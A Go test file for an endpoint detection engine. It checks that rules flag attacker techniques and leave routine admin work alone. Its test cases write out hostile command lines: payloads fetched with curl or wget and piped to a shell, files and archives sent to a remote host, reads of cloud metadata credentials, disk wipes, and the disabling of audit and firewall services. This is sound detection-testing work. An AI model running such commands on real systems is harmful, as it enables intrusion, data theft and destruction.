package detect

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/vedette-edr/vedette/sensor/internal/event"
)

// line makes a process of a command line; words are separated by one space.
func line(h *host, parent *event.Process, image, text string) *event.Process {
	p := h.process(parent, image, strings.Split(text, " ")...)
	p.User = "root"
	return p
}

// tireless is an engine that tells all that it finds.
func tireless(t *testing.T) *Engine {
	return engine(t, func(c *Config) { c.Budget, c.StoryBudget = 1<<20, 1<<20 })
}

func titles(findings []*event.Finding) (all []string) {
	for _, f := range findings {
		all = append(all, f.Title)
	}
	return all
}

// Ensure rules about single command lines find a technique in more than one of its forms.
func TestTechniquesByCommand(t *testing.T) {
	h, e := newHost(), tireless(t)
	for _, tt := range []struct{ image, text, want string }{
		{"/usr/bin/dash", "sh -c printf aWQK | base64 --decode | bash", "Decoded text"},
		{"/usr/bin/bash", "bash -c eval $(echo aWQK | base64 -d)", "Decoded text"},
		{"/usr/bin/bash", "bash -c openssl enc -aes-256-cbc -d -in x -k y | sh", "Decoded text"},
		{"/usr/bin/python3.11", "python3 -c import base64;exec(base64.b64decode('cHJpbnQoMSk='))", "decodes itself"},
		{"/usr/bin/perl", "perl -e eval pack(\"H*\",\"7072696e74\")", "decodes itself"},
		{"/usr/bin/bash", `bash -c $'\x63\x61\x74\x20\x2f\x65'`, "escapes"},
		{"/usr/bin/bash", "bash -c curl -fsSL http://192.0.2.1/i | sudo sh", "Download given"},
		{"/usr/bin/dash", "sh -c wget -qO- http://192.0.2.1/i | bash -s", "Download given"},
		{"/usr/bin/python3.11", "python3 -c import socket;s=socket.socket()", "talks to the network"},
		{"/usr/bin/touch", "touch -d 2020-01-01 /usr/sbin/sshd", "Times of an installed file"},
		{"/usr/bin/touch", "touch --reference=/bin/ls /etc/ssh/sshd_config", "Times of an installed file"},
		{"/usr/bin/find", "find / -perm -u=s -type f", "owner's rights"},
		{"/usr/bin/find", "find / -type f ( -perm -4000 -o -perm -2000 )", "owner's rights"},
		{"/usr/sbin/getcap", "getcap -r /", "owner's rights"},
		{"/usr/bin/grep", "grep -i passw /home/ann/.bash_history", "Passwords looked for"},
		{"/usr/bin/grep", "grep -rniE api_key|secret /var/www /srv", "Passwords looked for"},
		{"/usr/bin/cp", "cp /home/ann/.config/chromium/Default/Cookies .", "Store of passwords"},
		{"/usr/bin/tar", "tar cf - /home/ann/.gnupg/private-keys-v1.d", "Store of passwords"},
		{"/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role", "Cloud's credentials"},
		{"/usr/bin/ssh", "ssh -o StrictHostKeyChecking=no root@10.0.0.7 id", "asks nobody"},
		{"/usr/bin/ssh", "ssh -fN -R 8080:localhost:22 x@192.0.2.1", "forwarded"},
		{"/usr/bin/ssh", "ssh -D 1080 x@192.0.2.1", "forwarded"},
		{"/usr/bin/socat", "socat TCP-LISTEN:8443,fork TCP:10.0.0.5:443", "forwarded"},
		{"/usr/bin/ssh-add", "ssh-add -l", "Keys of an ssh agent"},
		{"/usr/bin/curl", "curl --upload-file db.sql https://192.0.2.1/u", "File sent away"},
		{"/usr/bin/curl", "curl -F file=@/etc/passwd https://192.0.2.1/u", "File sent away"},
		{"/usr/bin/bash", "bash -c tar cz /srv | nc 192.0.2.1 9000", "Packed data"},
		{"/usr/bin/zip", "zip -r /dev/shm/a.zip /srv/data", "Archive made"},
		{"/usr/bin/tar", "tar -cJf /tmp/.x/a.tar.xz /home", "Archive made"},
		{"/usr/bin/systemctl", "systemctl disable --now auditd", "Security service"},
		{"/usr/sbin/service", "service rsyslog stop", "Security service"},
		{"/usr/bin/pkill", "pkill -9 falco", "Security service"},
		{"/usr/sbin/setenforce", "setenforce 0", "Security service"},
		{"/usr/sbin/auditctl", "auditctl -e 0", "Security service"},
		{"/usr/sbin/iptables", "iptables -F", "Firewall"},
		{"/usr/sbin/xtables-nft-multi", "iptables -P INPUT ACCEPT", "Firewall"},
		{"/usr/bin/bash", "bash -c unset HISTFILE; id", "keep no history"},
		{"/usr/sbin/sysctl", "sysctl -w kernel.yama.ptrace_scope=0", "Protection of the kernel"},
		{"/usr/bin/shred", "shred -zu /root/notes", "overwritten"},
		{"/usr/bin/dd", "dd if=/dev/zero of=/dev/sda bs=1M", "overwritten"},
		{"/usr/bin/rm", "rm -rf --no-preserve-root /", "Root of the file systems"},
		{"/usr/bin/rm", "rm -rf /srv/backup/", "Backups removed"},
		{"/usr/bin/find", "find /var/backups -type f -delete", "Backups removed"},
		{"/usr/bin/systemctl", "systemctl stop mariadb", "Service stopped"},
		{"/usr/bin/systemd-run", "systemd-run --on-calendar=hourly /usr/bin/true", "transient unit"},
		{"/usr/bin/crontab", "crontab -", "Job queued"},
		{"/usr/bin/at", "at now + 1 minute", "Job queued"},
		{"/usr/sbin/useradd", "useradd -m -s /bin/bash helper", "Account or right"},
		{"/usr/sbin/usermod", "usermod -aG sudo helper", "Account or right"},
		{"/usr/sbin/useradd", "useradd -o -u 0 helper", "root's number"},
		{"/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh", "Host entered"},
		{"/usr/bin/docker", "docker run -it -v /:/host alpine chroot /host", "Host entered"},
		{"/dev/shm/sshd", "sshd -D", "system program's name"},
		{"/var/tmp/x/systemd-resolved", "/lib/systemd/systemd-resolved", "system program's name"},
		{"/usr/bin/x", "[kworker/u4:1]", "kernel thread"},
		{"/var/tmp/.cache-1/x", "x", "hidden place"},
		{"/usr/lib/.x/y", "y", "hidden place"},
		{"/tmp/k", "./k", "place for temporary files"},
		{"/usr/bin/lastb", "lastb -n 20", "Log-in records"},
		{"/usr/sbin/dmidecode", "dmidecode -s system-product-name", "real one"},
	} {
		o := h.exec(line(h, h.process(nil, "/usr/bin/bash", "bash"), tt.image, tt.text))
		findings, _ := e.Evaluate(o, event.Verdict{Tracked: true})
		if !strings.Contains(strings.Join(titles(findings), "; "), tt.want) {
			t.Errorf("%s: got %q, want %q", tt.text, titles(findings), tt.want)
		}
		for _, f := range findings {
			if len(f.Techniques) == 0 {
				t.Errorf("%s names no technique", f.Title)
			}
		}
	}
}

// ordinary are command lines of what hosts and people do all day, with who starts them.
var ordinary = []struct{ top, parent, image, text string }{
	// Packages and their scripts.
	{"/usr/bin/dpkg", "/bin/sh /var/lib/dpkg/info/x.postinst configure", "/usr/sbin/useradd", "useradd --system x"},
	{"/usr/bin/dpkg", "/bin/sh /var/lib/dpkg/info/x.postinst configure", "/usr/bin/systemctl", "systemctl stop auditd"},
	{"/usr/bin/apt-get", "apt-get upgrade", "/tmp/x.config.aB3", "/tmp/x.config.aB3 configure"},
	{"/usr/bin/dpkg", "dpkg --configure x", "/usr/bin/touch", "touch -r /etc/passwd /usr/bin/x"},
	// Cron, log rotation, systemd.
	{"/usr/sbin/cron", "/bin/sh -c run-parts /etc/cron.daily", "/usr/bin/dash", "/bin/sh /etc/cron.daily/logrotate"},
	{"/usr/sbin/logrotate", "sh -c invoke-rc.d rsyslog rotate", "/usr/bin/systemctl", "systemctl kill -s HUP rsyslog.service"},
	{"/usr/lib/systemd/systemd", "/sbin/init", "/usr/sbin/nft", "nft flush ruleset"},
	{"/usr/lib/systemd/systemd", "/sbin/init", "/usr/sbin/auditctl", "auditctl -D"},
	{"/usr/lib/systemd/systemd", "/sbin/init", "/usr/bin/systemctl", "systemctl start x"},
	// Configuration managers, by ssh and by agents.
	{"/usr/sbin/sshd", "/bin/sh -c /usr/bin/python3 /root/.ansible/tmp/a/AnsiballZ_systemd.py", "/usr/bin/python3.11", "/usr/bin/python3 /root/.ansible/tmp/a/AnsiballZ_systemd.py"},
	{"/usr/bin/python3.11", "/usr/bin/python3 /root/.ansible/tmp/a/AnsiballZ_systemd.py", "/usr/bin/systemctl", "systemctl stop auditd"},
	{"/usr/bin/python3.11", "/usr/bin/python3 /root/.ansible/tmp/a/AnsiballZ_user.py", "/usr/sbin/useradd", "useradd ann"},
	{"/usr/bin/ruby3.1", "puppet agent: applying configuration", "/usr/sbin/usermod", "usermod -G sudo ann"},
	// Builds.
	{"/usr/bin/make", "make", "/usr/bin/gcc", "gcc -O2 -c a.c -o a.o"},
	{"/usr/bin/bash", "/bin/bash ./configure", "/usr/bin/uname", "uname -m"},
	{"/usr/bin/go", "go test ./...", "/tmp/go-build123/b001/x.test", "/tmp/go-build123/b001/x.test"},
	{"/usr/bin/make", "make install", "/usr/bin/touch", "touch -r a /usr/lib/x/b"},
	{"/usr/bin/node", "npm install", "/usr/bin/dash", "sh -c node-gyp rebuild"},
	{"/usr/bin/bash", "-bash", "/usr/bin/git", "git grep -n base64 -d | sh"},
	{"/usr/bin/bash", "-bash", "/usr/bin/grep", "grep -rn password_hash src"},
	{"/usr/bin/bash", "-bash", "/usr/bin/grep", "grep ann /etc/passwd"},
	{"/usr/bin/bash", "-bash", "/usr/bin/[", "[ -f /etc/x ]"},
	// People.
	{"/usr/bin/bash", "-bash", "/usr/bin/curl", "curl -fsSLo x.tgz https://example.org/x.tgz"},
	{"/usr/bin/bash", "-bash", "/usr/bin/tar", "tar -xzf /tmp/.x/x.tgz"},
	{"/usr/bin/bash", "-bash", "/usr/bin/tar", "tar -czf /tmp/x.tgz src"},
	{"/usr/bin/bash", "-bash", "/usr/bin/touch", "touch notes.txt"},
	{"/usr/bin/bash", "-bash", "/usr/bin/ssh", "ssh -p 2222 ann@db1"},
	{"/usr/bin/bash", "-bash", "/usr/bin/systemctl", "systemctl status auditd"},
	{"/usr/bin/bash", "-bash", "/usr/bin/systemctl", "systemctl restart rsyslog"},
	{"/usr/bin/bash", "-bash", "/usr/sbin/iptables", "iptables -w -F f2b-sshd"},
	{"/usr/bin/bash", "-bash", "/usr/bin/rm", "rm -rf build/ node_modules"},
	{"/usr/bin/bash", "-bash", "/usr/bin/rm", "rm -f /"},
	{"/usr/bin/bash", "-bash", "/usr/bin/find", "find /var/backups -mtime +3"},
	{"/usr/bin/bash", "-bash", "/usr/bin/find", "find . -perm -u+x"},
	{"/usr/bin/bash", "-bash", "/usr/bin/cp", "cp report.pdf /tmp/"},
	{"/usr/bin/bash", "-bash", "/usr/bin/crontab", "crontab -e"},
	{"/usr/bin/bash", "-bash", "/usr/bin/bash", `bash -c printf '\033[1mdone\033[0m\n'`},
	{"/usr/bin/bash", "-bash", "/usr/bin/bash", "bash -c echo $KEY | base64 -d > key.json"},
	{"/usr/bin/bash", "-bash", "/usr/bin/docker", "docker run --rm -v /srv/data:/data alpine ls"},
	{"/usr/bin/bash", "-bash", "/usr/bin/python3.11", "python3 -c import json,sys;print(json.load(sys.stdin)['x'])"},
	// Backups.
	{"/usr/sbin/cron", "/bin/sh /usr/local/bin/backup", "/usr/bin/tar", "tar -czf /var/backups/etc.tgz /etc /home"},
	{"/usr/sbin/cron", "/bin/sh /usr/local/bin/backup", "/usr/bin/rsync", "rsync -a /home/ backup@nas:/srv/backup/"},
	{"/usr/bin/borg", "borg create", "/usr/bin/ssh", "ssh backup@nas borg serve"},
}

// Ensure nothing that hosts and people do all day is found, on a host that knows nothing yet.
func TestOrdinaryCommandsAreNotFound(t *testing.T) {
	h, e := newHost(), tireless(t)
	for _, tt := range ordinary {
		top := h.process(nil, tt.top)
		parent := h.process(top, tt.top, strings.Split(tt.parent, " ")...)
		findings, _ := e.Evaluate(h.exec(line(h, parent, tt.image, tt.text)), event.Verdict{Tracked: true, Learning: true})
		if len(findings) > 0 {
			t.Errorf("%s by %s: %q", tt.text, tt.parent, titles(findings))
		}
	}
	found := map[string]int{}
	for _, o := range ordinaryWork(4000) {
		if _, file := o.Event.(*event.File); file {
			continue // anything is done there to any file
		}
		findings, _ := e.Evaluate(o, event.Verdict{Tracked: true, Learning: true})
		for _, f := range findings {
			if f.Severity != event.Low {
				found[fmt.Sprintf("%s: %s (%s)", f.Severity, f.Title, f.Reason)]++
			}
		}
	}
	for what, n := range found {
		t.Errorf("%d of ordinary work: %s", n, what)
	}
}

// burst has one storyline do n things and says what is found.
func burst(h *host, e *Engine, n int, do func(h *host, shell *event.Process, i int) *event.Observation) []string {
	shell := h.process(h.process(nil, "/usr/sbin/sshd"), "/usr/bin/bash", "-bash")
	var all []string
	for i := range n {
		findings, _ := e.Evaluate(do(h, shell, i), event.Verdict{Tracked: true, Learning: true})
		all = append(all, titles(findings)...)
	}
	return all
}

func commands(lines ...string) func(*host, *event.Process, int) *event.Observation {
	return func(h *host, shell *event.Process, i int) *event.Observation {
		text := lines[i%len(lines)]
		name, _, _ := strings.Cut(text, " ")
		image := name
		if !strings.HasPrefix(name, "/") {
			image = "/usr/bin/" + name
		}
		return h.exec(line(h, shell, image, text))
	}
}

// Ensure what is nothing by itself is found when one storyline does it often or in a row.
func TestTechniquesByCount(t *testing.T) {
	h, e := newHost(), tireless(t)
	query := func(name func(i int) string) func(*host, *event.Process, int) *event.Observation {
		return func(h *host, shell *event.Process, i int) *event.Observation {
			p := line(h, shell, "/usr/bin/x", "x")
			return &event.Observation{Event: &event.DNS{Header: event.Header{Process: p.Key}, Name: name(i)}, Time: h.tick(), Process: p}
		}
	}
	connect := func(remote func(i int) string) func(*host, *event.Process, int) *event.Observation {
		return func(h *host, shell *event.Process, i int) *event.Observation {
			return h.open(line(h, shell, "/usr/bin/x", "x"), event.Outbound, remote(i))
		}
	}
	rename := func(end func(i int) string) func(*host, *event.Process, int) *event.Observation {
		return func(h *host, shell *event.Process, i int) *event.Observation {
			p := line(h, shell, "/usr/bin/x", "x")
			from := fmt.Sprintf("/var/www/html/%d.html", i)
			f := &event.File{Header: event.Header{Process: p.Key}, Op: event.FileRename, Class: event.FileWeb, Path: []byte(from), Target: []byte(from + end(i))}
			return &event.Observation{Event: f, Time: h.tick(), Process: p}
		}
	}
	long := strings.Repeat("a7", 25)
	for _, tt := range []struct {
		name string
		n    int
		do   func(*host, *event.Process, int) *event.Observation
		want string // empty: nothing
	}{
		{"five questions", 5, commands("whoami", "uname -a", "w", "ps aux", "cat /etc/passwd"), "Round of questions about the host"},
		{"one question again and again", 20, commands("ps aux", "uname -a", "df -h"), ""},
		{"four questions about the network", 4, commands("ip addr", "ss -tlnp", "ip route show", "arp -an"), "Round of questions about the network"},
		{"an interface that is set up", 8, commands("ip addr add 10.0.0.1/24 dev eth0", "ip link set eth0 up", "ip route add default via 10.0.0.2", "ip addr flush dev eth1"), ""},
		{"three products", 3, commands("pgrep falco", "systemctl status wazuh-agent", "which osqueryd"), "Several security products"},
		{"one product", 9, commands("pgrep clamd", "systemctl status clamd"), ""},
		{"files gathered", 8, func(h *host, shell *event.Process, i int) *event.Observation {
			return commands(fmt.Sprintf("cp /home/ann/%d.pdf /dev/shm/.k/", i))(h, shell, 0)
		}, "Many files gathered"},
		{"files copied", 30, func(h *host, shell *event.Process, i int) *event.Observation {
			return commands(fmt.Sprintf("cp /home/ann/%d.pdf /srv/share/", i))(h, shell, 0)
		}, ""},
		{"services stopped", 5, func(h *host, shell *event.Process, i int) *event.Observation {
			return commands(fmt.Sprintf("systemctl stop s%d", i))(h, shell, 0)
		}, "Many services stopped"},
		{"fetched and run", 2, commands("curl -so /tmp/x http://192.0.2.1/x", "/tmp/x"), "File fetched and run"},
		{"run and fetched", 2, commands("/tmp/x", "curl -so /tmp/y http://192.0.2.1/x"), "Program started from a place for temporary files"},
		{"compiled and run", 2, commands("gcc x.c -o /tmp/x", "/tmp/x"), "Program compiled and run"},
		{"long names", 15, query(func(i int) string { return fmt.Sprintf("%s%d.t.example.com", long[:46], i) }), "Data carried in names"},
		{"one long name", 60, query(func(int) string { return long + ".example.com" }), ""},
		{"names of digests", 60, query(func(i int) string { return fmt.Sprintf("%040x.ebl.example.org", i) }), ""},
		{"made-up domains", 15, query(func(i int) string { return fmt.Sprintf("xkqwzrtpb%cmnhd.net", 'a'+i) }), "Many made-up domains"},
		{"domains with names", 60, query(func(i int) string {
			return []string{"stackoverflow", "googleusercontent", "cloudfront", "microsoftonline", "letsencrypt", "digitalocean"}[i%6] + fmt.Sprint(i) + ".com"
		}), ""},
		{"ports", 50, connect(func(i int) string { return fmt.Sprintf("10.0.0.5:%d", 1000+i) }), "Many ports"},
		{"one port again and again", 90, connect(func(i int) string { return fmt.Sprintf("10.0.%d.5:443", i) }), ""},
		{"ssh to many", 30, connect(func(i int) string { return fmt.Sprintf("10.0.0.%d:22", i+1) }), "Log-in service of many hosts"},
		{"endings", 30, rename(func(int) string { return ".crypted" }), "one more ending"},
		{"endings of backups", 90, rename(func(i int) string { return []string{".bak", ".gz", ".1"}[i%3] }), ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := burst(h, e, tt.n, tt.do); tt.want == "" && len(got) > 0 || tt.want != "" && !strings.Contains(strings.Join(got, "; "), tt.want) {
				t.Errorf("got %q, want %q", got, tt.want)
			}
			// One less is not enough: what counts is how often.
			if got := burst(h, e, tt.n-1, tt.do); tt.want != "" && strings.Contains(strings.Join(got, "; "), tt.want) && tt.n > 2 {
				t.Errorf("%d are enough", tt.n-1)
			}
		})
	}
}

// Ensure changes of files by local root are found, and those by tools for them are not.
func TestTechniquesByFile(t *testing.T) {
	h, e := newHost(), tireless(t)
	const persist, cred, other, bin = event.FilePersistence, event.FileCredential, event.FileOther, event.FileBinary
	for _, tt := range []struct {
		parent, image, argv string
		op                  event.FileOp
		class               event.FileClass
		path                string
		want                string
	}{
		{"/usr/bin/bash", "/usr/bin/tee", "tee", event.FileCreate, persist, "/etc/cron.hourly/x", "Cron table"},
		{"/usr/bin/bash", "/srv/x", "x", event.FileRename, persist, "/var/spool/cron/crontabs/ann", "Cron table"},
		{"/usr/bin/bash", "/usr/bin/crontab", "crontab -", event.FileRename, persist, "/var/spool/cron/crontabs/ann", ""},
		{"/usr/bin/bash", "/srv/x", "x", event.FileCreate, persist, "/var/spool/cron/atjobs/a1", "At job"},
		{"/usr/bin/bash", "/usr/bin/at", "at now", event.FileCreate, persist, "/var/spool/cron/atjobs/a1", ""},
		{"/usr/bin/bash", "/usr/bin/dash", "sh", event.FileCreate, persist, "/root/.config/systemd/user/x.service", "Service unit"},
		{"/usr/bin/bash", "/usr/bin/dash", "sh", event.FileCreate, persist, "/etc/systemd/system/x.timer", "Timer unit"},
		{"/usr/lib/systemd/systemd", "/usr/lib/systemd/systemd", "systemd", event.FileCreate, persist, "/run/systemd/system/run-1.service", ""},
		{"/usr/bin/bash", "/usr/bin/dash", "sh", event.FileWrite, persist, "/home/ann/.zshrc", "Shell start-up"},
		{"/usr/bin/bash", "/usr/bin/vim.basic", "vim .bashrc", event.FileRename, persist, "/home/ann/.bashrc", ""},
		{"/usr/bin/bash", "/usr/bin/cp", "cp", event.FileCreate, persist, "/etc/udev/rules.d/1.rules", "Device rule"},
		{"/usr/bin/bash", "/usr/bin/cp", "cp", event.FileCreate, persist, "/etc/init.d/x", "Boot script"},
		{"/usr/bin/bash", "/usr/bin/cp", "cp", event.FileCreate, persist, "/etc/apt/apt.conf.d/1", "Package manager's hooks"},
		{"/usr/bin/bash", "/usr/bin/cp", "cp", event.FileCreate, persist, "/etc/ld.so.conf.d/1.conf", "Loader's search path"},
		{"/usr/bin/python3.11", "/usr/bin/python3.11", "python3 AnsiballZ_copy.py", event.FileRename, persist, "/etc/cron.d/x", ""},
		{"/usr/bin/dpkg", "/usr/bin/dash", "sh x.postinst", event.FileCreate, persist, "/etc/cron.d/x", ""},
		{"/usr/bin/bash", "/usr/bin/python3.11", "python3 -m pip install x", event.FileCreate, bin, "/usr/local/lib/python3.11/dist-packages/x.pth", ""},
		{"/usr/bin/bash", "/usr/bin/cp", "cp", event.FileCreate, bin, "/usr/lib/python3.11/sitecustomize.py", "Python start-up"},
		{"/usr/bin/bash", "/usr/bin/tee", "tee", event.FileCreate, cred, "/etc/sudoers.d/x", "becoming root"},
		{"/usr/bin/bash", "/srv/x", "x", event.FileWrite, cred, "/etc/pam.d/common-auth", "becoming root"},
		{"/usr/bin/bash", "/usr/sbin/visudo", "visudo", event.FileRename, cred, "/etc/sudoers", ""},
		{"/usr/bin/bash", "/usr/bin/cp", "cp", event.FileCreate, cred, "/usr/local/share/ca-certificates/x.crt", "Root certificate"},
		{"/usr/sbin/update-ca-certificates", "/usr/bin/mv", "mv", event.FileRename, cred, "/etc/ssl/certs/ca-certificates.crt", ""},
		{"/usr/bin/bash", "/usr/bin/tee", "tee", event.FileWrite, other, "/etc/rsyslog.conf", "Audit or logging"},
		{"/usr/bin/bash", "/usr/sbin/augenrules", "augenrules", event.FileWrite, other, "/etc/audit/audit.rules", ""},
		{"/usr/bin/bash", "/usr/bin/ln", "ln", event.FileSymlink, persist, "/etc/systemd/system/rsyslog.service", "security service"},
		{"/usr/bin/bash", "/usr/bin/ln", "ln", event.FileSymlink, persist, "/etc/systemd/system/suspend.target", "Sleep of the host"},
		{"/usr/bin/bash", "/usr/bin/tee", "tee", event.FileWrite, persist, "/etc/hosts", "Names of hosts"},
		{"/usr/bin/bash", "/usr/bin/tee", "tee", event.FileWrite, other, "/etc/issue", "Message that log-ins show"},
		{"/usr/bin/bash", "/usr/bin/chmod", "chmod 644 /etc/shadow", event.FileChmod, cred, "/etc/shadow", "Permissions of a credential"},
		{"/usr/bin/bash", "/usr/bin/passwd", "passwd", event.FileChmod, cred, "/etc/shadow", ""},
		{"/usr/bin/bash", "/usr/bin/setfattr", "setfattr", event.FileSetxattr, bin, "/usr/bin/x", "Extended attribute"},
		{"/usr/bin/bash", "/usr/sbin/setcap", "setcap", event.FileSetxattr, bin, "/usr/bin/x", ""},
		{"/usr/bin/bash", "/var/tmp/x", "x", event.FileCreate, persist, "/etc/cron.d/x", "from an odd place"},
		{"/usr/bin/bash", "/dev/shm/x", "x", event.FileWrite, cred, "/root/.ssh/authorized_keys", "from an odd place"},
	} {
		p := line(h, h.process(nil, tt.parent, tt.parent), tt.image, tt.argv)
		f := &event.File{Header: event.Header{Process: p.Key}, Op: tt.op, Class: tt.class, Path: []byte(tt.path), NLink: 1, Mode: regular}
		if tt.op == event.FileRename {
			f.Path, f.Target = []byte(tt.path+".new"), []byte(tt.path)
		}
		findings, _ := e.Evaluate(&event.Observation{Event: f, Time: h.tick(), Process: p}, event.Verdict{Tracked: true, Learning: true})
		got := titles(findings)
		if tt.want == "" && len(got) > 0 || tt.want != "" && !slices.ContainsFunc(got, func(s string) bool { return strings.Contains(s, tt.want) }) {
			t.Errorf("%s %v %s: got %q, want %q", tt.image, tt.op, tt.path, got, tt.want)
		}
	}
}
